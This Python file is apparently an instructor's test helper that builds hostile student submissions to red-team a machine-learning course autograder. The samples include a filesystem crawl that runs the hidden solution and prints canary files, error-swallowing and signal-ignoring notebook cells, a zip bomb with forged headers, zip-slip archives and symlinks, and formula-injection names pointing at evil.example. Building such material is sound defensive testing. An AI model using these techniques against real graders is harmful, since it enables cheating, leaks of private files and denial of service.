"""Build the red-team submissions from a student release.

    python -m instructor.tests.redteam_build RELEASE_DIR OUT_DIR      # to look at them
    (nothing is committed: test_hostile.py builds them from a fresh release at test time, so they
    always carry the current release files)

Each hostile submission holds only graded files, each the untouched release file plus one attack, so
"gains nothing" means: scores no more than the untouched release, item by item. The attacks themselves
are in redteam_payloads.py. Submissions that depend on where the instructor's tree lives (a symlink to
the reference, zips with lying headers or escaping paths, a name that is a spreadsheet formula) are made
at test time by ``add_generated``.
"""

import hashlib
import json
import os
import shutil
import stat
import struct
import sys
import zipfile
from pathlib import Path

from instructor.tests import redteam_payloads as P

GRADED_PY = ["cs231n_lib/regularizers.py", "cs231n_lib/classifiers/linear_svm.py", "cs231n_lib/classifiers/softmax.py",
             "cs231n_lib/optim.py", "cs231n_lib/classifiers/linear_classifier.py", "cs231n_lib/second_order.py"]
NOTEBOOKS = ["assignments/01_svm_loss.ipynb", "assignments/02_softmax_loss.ipynb",
             "assignments/03_regularization.ipynb", "assignments/04_optimizers.ipynb"]

# Payloads that act once per process (a builtins flag) vs once per module (they rewrite its functions).
PER_MODULE = {"read_reference", "hang_tests", "formula_injection"}
# Attacks whose exceptions must propagate (a hang must not be cut short by the payload's own try).
RAW = {"hang_import"}
# Library attacks that also run as the only cell of notebook 01 (student code runs in the kernel too).
IN_KERNEL = {"write_everywhere", "kill_everything", "setsid_daemon"}

SWALLOW_CELL = '''\
# Red-team notebook: from here on every error in this kernel vanishes.
import sys
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
sys.excepthook = lambda *args: None
_ip.showtraceback = lambda *args, **kwargs: None
_ip.showsyntaxerror = lambda *args, **kwargs: None
_run_cell, _run_cell_async = _ip.run_cell, _ip.run_cell_async
def _quiet(result):
    result.error_before_exec = None
    result.error_in_exec = None
    return result
def _quiet_run_cell(*args, **kwargs):
    return _quiet(_run_cell(*args, **kwargs))
async def _quiet_run_cell_async(*args, **kwargs):
    return _quiet(await _run_cell_async(*args, **kwargs))
_ip.run_cell, _ip.run_cell_async = _quiet_run_cell, _quiet_run_cell_async
def _wrap_in_try(lines):
    body = "".join(lines)
    if not body.strip():
        return lines
    return ["try:\\n"] + ["    " + line for line in body.splitlines(True)] + ["\\n    pass\\nexcept BaseException:\\n    pass\\n"]
_ip.input_transformers_post.append(_wrap_in_try)
'''

HANG_CELL = '''\
# Red-team notebook: a cell that hangs for 240 s and ignores interrupts.
import signal, time
for _sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    signal.signal(_sig, signal.SIG_IGN)
_end = time.monotonic() + 240
while time.monotonic() < _end:
    try:
        time.sleep(1)
    except BaseException:
        pass
'''

READ_SOLUTION_CELL = '''\
# Red-team notebook: find the instructor's copy of this notebook and run its solution cell.
import json, os, time
_deadline = time.monotonic() + 6
_solution = None
for _dirpath, _dirnames, _filenames in os.walk("/"):
    if time.monotonic() > _deadline or _solution is not None:
        break
    _dirnames[:] = [d for d in _dirnames if d not in ("proc", "sys", ".git", "__pycache__", "site-packages")
                    and not d.startswith(".venv") and d != ".mirror"]
    if "01_svm_loss.ipynb" in _filenames:
        try:
            with open(os.path.join(_dirpath, "01_svm_loss.ipynb")) as _f:
                for _cell in json.load(_f)["cells"]:
                    _text = "".join(_cell["source"])
                    if "### BEGIN SOLUTION" in _text and "best_svm" in _text:
                        _solution = _text
        except Exception:
            pass
    for _name in _filenames:
        if _name.startswith((".canary", "canary")):
            try:
                print("LEAKED:", open(os.path.join(_dirpath, _name)).read(2000))
            except Exception:
                pass
if _solution is not None:
    exec(_solution)
'''

# No classifier trained at all: least squares fitted to the validation set itself (N_val < D, so it
# interpolates), saved where the tuned classifier should be. Notebooks 01 and 02 only, no library files.
SHORTCUT_CELL = '''\
# Red-team notebook: no {what} and no tuning: least squares on the validation set itself.
class _Fitted:
    pass
{keep} = _Fitted()
{keep}.W = np.linalg.lstsq(X_val, np.eye(num_classes)[y_val], rcond=None)[0]  # (D, C)
best_val = float(np.mean(np.argmax(X_val @ {keep}.W, axis=1) == y_val))
results = {{(a, b): (best_val, best_val) for a in learning_rates for b in regularization_strengths}}
'''

# Junk for the inline answers: the placeholder in disguise, too short, a copy of the question,
# repeated characters or words. Applied in order to the answers of notebooks 03 and 04.
def junk_answers(questions):
    kinds = [lambda q: q, lambda q: "yes", lambda q: "your answer here.", lambda q: "x " * 200,
             lambda q: " ", lambda q: "TODO", lambda q: q.lower().replace("?", "."), lambda q: "." * 400,
             lambda q: " ".join(["answer"] * 80)]
    return [kinds[i % len(kinds)](q) for i, q in enumerate(questions)]


# Where the network payload knocks: the test's listener (build's ``listener``), a free port and a per-run name.
LISTENER = {"LISTEN_PORT": "9", "LISTEN_ABSTRACT": "h9b-redteam-unset"}


def _body(name):
    body = P.BODIES[name].strip("\n")
    for placeholder, value in LISTENER.items():
        body = body.replace(placeholder, value)
    return body


def _payload_source(name, module):
    key = f"{name}_{module}" if name in PER_MODULE else name
    body = _body(name)
    call = P.RAW_CALL if name in RAW else P.SAFE_CALL
    return P.GUARD.format(name=name, body=body, key=key, call=call)


def _read_nb(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f)


def _write_nb(nb, path):
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        json.dump(nb, f, indent=1, ensure_ascii=False)
        f.write("\n")


def _code_cell(source):
    cell_id = "h9b-" + hashlib.sha256(source.encode()).hexdigest()[:12]
    return {"cell_type": "code", "execution_count": None, "id": cell_id,
            "metadata": {}, "outputs": [], "source": source.splitlines(True)}


def _in_todo_cell(release, rel, source, which=0):
    """The release notebook ``rel`` with the ``which``-th TODO code cell's raise replaced by ``source``.

    The grader runs the instructor's notebook with the student's solution cells put in, so an attack in
    the kernel has to live in a solution cell; the release's other cells stay as they are.
    """
    nb = _read_nb(release / rel)
    todo = [c for c in nb["cells"] if c["cell_type"] == "code" and "replace this raise with your code" in "".join(c["source"])]
    cell = todo[which]
    lines = [line for line in "".join(cell["source"]).splitlines(True) if "replace this raise with your code" not in line]
    cell["source"] = ("".join(lines).rstrip("\n") + "\n" + source).splitlines(True)
    return nb


def _kernel_source(name):
    body = _body(name)
    return f"def _h9b_payload():\n{body}\n\n\n_h9b_payload()\n"


def build(release, out, listener=None):
    """Write every hostile submission into ``out`` (one folder each), from the release at ``release``; the network
    payload knocks at ``listener`` (port, abstract socket name) when given."""
    if listener is not None:
        LISTENER.update(LISTEN_PORT=str(listener[0]), LISTEN_ABSTRACT=listener[1])
    release, out = Path(release), Path(out)
    lib = {rel: (release / rel).read_text(encoding="utf-8") for rel in GRADED_PY}
    for name in P.BODIES:
        folder = out / name
        for rel, text in lib.items():
            module = Path(rel).stem
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).write_text(text + _payload_source(name, module), encoding="utf-8")
        if name in IN_KERNEL:
            _write_nb(_in_todo_cell(release, NOTEBOOKS[0], _kernel_source(name)), folder / NOTEBOOKS[0])
    # hang in a cell too
    _write_nb(_in_todo_cell(release, NOTEBOOKS[0], HANG_CELL), out / "hang_tests" / NOTEBOOKS[0])
    # read the reference from the kernel: the solution cell of the instructor's notebook
    _write_nb(_in_todo_cell(release, NOTEBOOKS[0], READ_SOLUTION_CELL), out / "read_reference" / NOTEBOOKS[0])
    # error-swallowing notebooks: the first solution cell swallows every later error (the instructor's
    # checks included); 01 has one solution cell, 03 two (the second keeps the release's stub)
    for rel in (NOTEBOOKS[0], NOTEBOOKS[2]):
        _write_nb(_in_todo_cell(release, rel, SWALLOW_CELL), out / "swallow_errors" / rel)
    # the tuned classifier's artifact without a classifier
    for rel, what, keep in ((NOTEBOOKS[0], "LinearSVM", "best_svm"), (NOTEBOOKS[1], "Softmax", "best_softmax")):
        _write_nb(_in_todo_cell(release, rel, SHORTCUT_CELL.format(what=what, keep=keep)), out / "shortcut_notebook" / rel)
    # a trivial notebook, and junk inline answers
    nb = _read_nb(release / NOTEBOOKS[1])
    nb["cells"] = [_code_cell("x = 1\n")]
    _write_nb(nb, out / "trivial_notebook" / NOTEBOOKS[1])
    for rel in NOTEBOOKS[2:]:
        nb = _read_nb(release / rel)
        answer_cells = [c for c in nb["cells"] if c["cell_type"] == "markdown" and "YOUR ANSWER HERE" in "".join(c["source"])]
        questions = ["".join(c["source"]).split("**Your answer:**")[0].strip() for c in answer_cells]
        for cell, junk in zip(answer_cells, junk_answers(questions)):
            cell["source"] = "".join(cell["source"]).replace("YOUR ANSWER HERE", junk, 1).splitlines(True)
        _write_nb(nb, out / "trivial_notebook" / rel)


# "Vectorized" functions that are the naive loops: plain, and with a cache of the last answer (a speed
# test that times repeated calls on the same arrays would see the cache, not the loops). Added to
# style_a's files, so every other item is honest and must score what style_a scores.
LOOPS_AS_VECTORIZED = {
    "linear_svm.py": ("svm_loss_vectorized", "svm_loss_naive"),
    "softmax.py": ("softmax_loss_vectorized", "softmax_loss_naive"),
}

LOOPS_SOURCE = '''

# ---------------------------------------------------------------------------------------------------
# RED-TEAM SUBMISSION "{name}" (redteam_build.py): the "vectorized" loss is the naive
# loops{memo_note}. Correct, so only the vectorized item may lose points.
_h9b_last = {{}}


def {vectorized}(W, X, y, reg):
    try:
        key = (W.__array_interface__["data"][0], X.__array_interface__["data"][0], y.__array_interface__["data"][0],
               W.shape, X.shape, W.dtype.str, float(reg), float(W.sum()), float(X[:, 0].sum()))
    except Exception:                       # bad input: the naive version raises the proper error
        key = None
    if {memo} and key is not None and _h9b_last.get("key") == key:
        loss, dW = _h9b_last["value"]
        return loss, dW.copy()
    loss, dW = {naive}(W, X, y, reg)
    _h9b_last.update(key=key, value=(loss, dW.copy()))
    return loss, dW
'''


def build_loops(solutions, out):
    """The two submissions whose vectorized losses are loops: ``loops_as_vectorized``, ``memoized_loops``."""
    solutions, out = Path(solutions), Path(out)
    for name, memo in (("loops_as_vectorized", False), ("memoized_loops", True)):
        for rel in GRADED_PY:
            text = (solutions / rel).read_text(encoding="utf-8")
            if Path(rel).name in LOOPS_AS_VECTORIZED:
                vectorized, naive = LOOPS_AS_VECTORIZED[Path(rel).name]
                text += LOOPS_SOURCE.format(name=name, vectorized=vectorized, naive=naive, memo=memo,
                                            memo_note=", with a cache of the last answer" if memo else "")
            (out / name / rel).parent.mkdir(parents=True, exist_ok=True)
            (out / name / rel).write_text(text, encoding="utf-8")


# ---------------------------------------------------------------- round 2

ROUND2_NAMES = ["cpu_hog", "faulty_layers", "keep_hijack", "nb03_huge_start", "nested_callbacks", "older_release",
                "sleepy_naive", "zero_inputs"]  # cpu_hog: round 3, built here the same way
# faulty_layers: style_a with two faults, each in one item's own function; every other item must keep full marks
FAULTS = {
    "cs231n_lib/layers.py": """

_right_affine_backward = affine_backward


def affine_backward(dout, cache, compute_dx=True):  # a fault of the affine_layer item only
    dx, dw, db = _right_affine_backward(dout, cache, compute_dx)
    return dx, 1.5 * dw, db
""",
    "cs231n_lib/classifiers/linear_svm.py": """

_right_svm_loss_on_scores = svm_loss_on_scores


def svm_loss_on_scores(scores, y):  # a fault of the svm_vectorized item only (the nets and train call it)
    loss, dscores = _right_svm_loss_on_scores(scores, y)
    return loss + 0.5, dscores
""",
}
FAULTY_ITEMS = ("affine_layer", "svm_vectorized")
LAYERS_PY, FC_NET_PY = "cs231n_lib/layers.py", "cs231n_lib/classifiers/fc_net.py"


def _older_release(solutions, rel):
    """``rel`` of the independent solution ``solutions`` as made against an earlier release (the one the
    issue was filed against, where the loss-on-scores functions were given code): LinearClassifier without
    ``scores_loss`` and without train's ``on_divergence`` keyword, and nothing else of the release's since."""
    text = (solutions / rel).read_text(encoding="utf-8")
    edits = {
        "cs231n_lib/classifiers/linear_classifier.py": [
            ("from .linear_svm import svm_loss_on_scores, svm_loss_vectorized", "from .linear_svm import svm_loss_vectorized"),
            ("from .softmax import softmax_loss_on_scores, softmax_loss_vectorized", "from .softmax import softmax_loss_vectorized"),
            ("    scores_loss = staticmethod(svm_loss_on_scores)\n", ""),
            ("    scores_loss = staticmethod(softmax_loss_on_scores)\n", ""),
            (",\n              on_divergence=\"warn\"):", "):"),
            ("on_divergence=on_divergence", "on_divergence=\"warn\""),
        ],
    }
    for old, new in edits.get(rel, []):
        assert old in text, f"older_release expects {old!r} in {rel} of {solutions.name}; update redteam_build"
        text = text.replace(old, new)
    if rel == "cs231n_lib/classifiers/linear_classifier.py":
        assert "on_divergence=on_divergence" not in text and "def train" in text
    return text


def _notebook_cell(release, rel, cell_id, source):
    """The release notebook ``rel`` with cell ``cell_id``'s raise (the TODO) replaced by ``source``."""
    nb = _read_nb(release / rel)
    cell = next(c for c in nb["cells"] if c.get("id") == cell_id)
    lines = [line for line in "".join(cell["source"]).splitlines(True) if "replace this raise with your code" not in line]
    at = next(i for i, line in enumerate(lines) if line.startswith("# Compare whole matrices"))
    cell["source"] = "".join(lines[:at] + [source] + lines[at:]).splitlines(True)
    return nb


def build_round2(release, solutions, out):
    """The submissions of round 2's attack classes (ROUND2_NAMES), from the release and style_a.

    zero_inputs and nb03_huge_start are the untouched release plus the attack (they must gain nothing);
    keep_hijack, sleepy_naive, cpu_hog and nested_callbacks are style_a plus the attack; older_release is style_a's
    library as made against an earlier release (it must score full marks on every package item);
    faulty_layers is style_a with a fault in two items' own functions (only those two may lose points).
    """
    release, solutions, out = Path(release), Path(solutions), Path(out)
    library = GRADED_PY + [LAYERS_PY, FC_NET_PY]
    for name in ROUND2_NAMES:
        for rel in library:
            base = release if name in ("zero_inputs", "nb03_huge_start") else solutions
            text = (base / rel).read_text(encoding="utf-8")
            if name == "zero_inputs":
                text += P.ZERO_INPUTS.get(rel, "")
            elif name in ("keep_hijack", "sleepy_naive", "cpu_hog") and Path(rel).name in LOOPS_AS_VECTORIZED:
                vectorized, naive = LOOPS_AS_VECTORIZED[Path(rel).name]
                source = {"keep_hijack": P.KEEP_HIJACK, "sleepy_naive": P.SLEEPY_NAIVE, "cpu_hog": P.CPU_HOG}[name]
                text += source.format(vectorized=vectorized, naive=naive)
            elif name == "nested_callbacks" and rel == "cs231n_lib/classifiers/linear_classifier.py":
                text += P.NESTED_CALLBACKS
            elif name == "older_release":
                text = _older_release(solutions, rel)
            elif name == "faulty_layers":
                text += FAULTS.get(rel, "")
            (out / name / rel).parent.mkdir(parents=True, exist_ok=True)
            (out / name / rel).write_text(text, encoding="utf-8")
    _write_nb(_notebook_cell(release, NOTEBOOKS[2], "reg-27", P.NB03_HUGE_START), out / "nb03_huge_start" / NOTEBOOKS[2])


# ---------------------------------------------------------------- made at test time

FORMULA_NAMES = ['=HYPERLINK("http:evil.example","x")', "+cmd", "-2+3", "@SUM(1+1)"]
# Every folder build() and build_loops() make.
BUILT_NAMES = sorted({*P.BODIES, "hang_tests", "read_reference", "swallow_errors", "shortcut_notebook",
                      "trivial_notebook", "loops_as_vectorized", "memoized_loops", *ROUND2_NAMES})
GENERATED_NAMES = ["zip_bomb.zip", "zip_escape.zip", "symlink_reference", *FORMULA_NAMES]


def _lying_zip(path, members, bomb_member, bomb_bytes):
    """A zip holding ``members`` (name -> text) plus ``bomb_member``: ``bomb_bytes`` zeros, deflated,
    whose local and central headers both claim an uncompressed size of 1000 bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
        info = zipfile.ZipInfo(bomb_member, date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w") as f:
            block = b"\0" * 2**22
            for _ in range(bomb_bytes // len(block)):
                f.write(block)
    data = bytearray(Path(path).read_bytes())
    name = bomb_member.encode()
    lied = 0
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            start = at + 4
            name_len = struct.unpack_from("<H", data, at + (26 if signature == b"PK\x03\x04" else 28))[0]
            if bytes(data[at + name_at:at + name_at + name_len]) == name:
                struct.pack_into("<I", data, at + size_at, 1000)
                lied += 1
    assert lied == 2, f"expected to patch the local and the central header, patched {lied}"
    tmp = Path(str(path) + ".tmp")
    tmp.write_bytes(bytes(data))
    os.replace(tmp, path)


def _zip_with_links(path, members, links):
    """A zip with ordinary ``members`` and ``links`` (name -> target) stored as symlinks."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
        for name, target in links.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            info.create_system = 3
            archive.writestr(info, target)


def add_generated(batch, release, reference, bomb_bytes=2**30):
    """Add the submissions that depend on this machine to the folder ``batch``; return their names.

    ``reference`` is the instructor's tree (its cs231n_lib holds the solutions).
    """
    batch, release, reference = Path(batch), Path(release), Path(reference)
    names = []
    _lying_zip(batch / "zip_bomb.zip", {"assignments/README.txt": "red team\n"}, GRADED_PY[1], bomb_bytes)
    names.append("zip_bomb.zip")
    _zip_with_links(
        batch / "zip_escape.zip",
        {"../../H9B-HOSTILE-MARKER-zipslip": "escaped\n", "/tmp/H9B-HOSTILE-MARKER-zipslip-absolute": "escaped\n",
         GRADED_PY[2]: (release / GRADED_PY[2]).read_text(encoding="utf-8")},
        {GRADED_PY[3]: str(reference / GRADED_PY[3]), GRADED_PY[1]: "../../../" * 8 + str(reference / GRADED_PY[1])},
    )
    names.append("zip_escape.zip")
    folder = batch / "symlink_reference"
    (folder / "cs231n_lib" / "classifiers").mkdir(parents=True)
    for rel in GRADED_PY[:4]:
        os.symlink(reference / rel, folder / rel)                 # the reference, by absolute path
    os.symlink(reference / "cs231n_lib", folder / "cs231n_lib" / "reference_package")
    os.symlink(reference / GRADED_PY[4], folder / GRADED_PY[4])
    names.append("symlink_reference")
    for formula in FORMULA_NAMES:          # the name is the attack: one untouched stub file is enough
        (batch / formula / "cs231n_lib").mkdir(parents=True)
        shutil.copyfile(release / GRADED_PY[5], batch / formula / GRADED_PY[5])
        names.append(formula)
    (batch / FORMULA_NAMES[0] / "cs231n_lib" / '=HYPERLINK("http:evil.example","file").py').write_text("x = 1\n")
    return names


if __name__ == "__main__":
    if len(sys.argv) != 3:
        print("usage: python -m instructor.tests.redteam_build RELEASE_DIR OUT_DIR", file=sys.stderr)
        sys.exit(2)
    build(sys.argv[1], sys.argv[2])
    build_loops(Path(__file__).parent / "solutions" / "style_a", sys.argv[2])
    build_round2(sys.argv[1], Path(__file__).parent / "solutions" / "style_a", sys.argv[2])
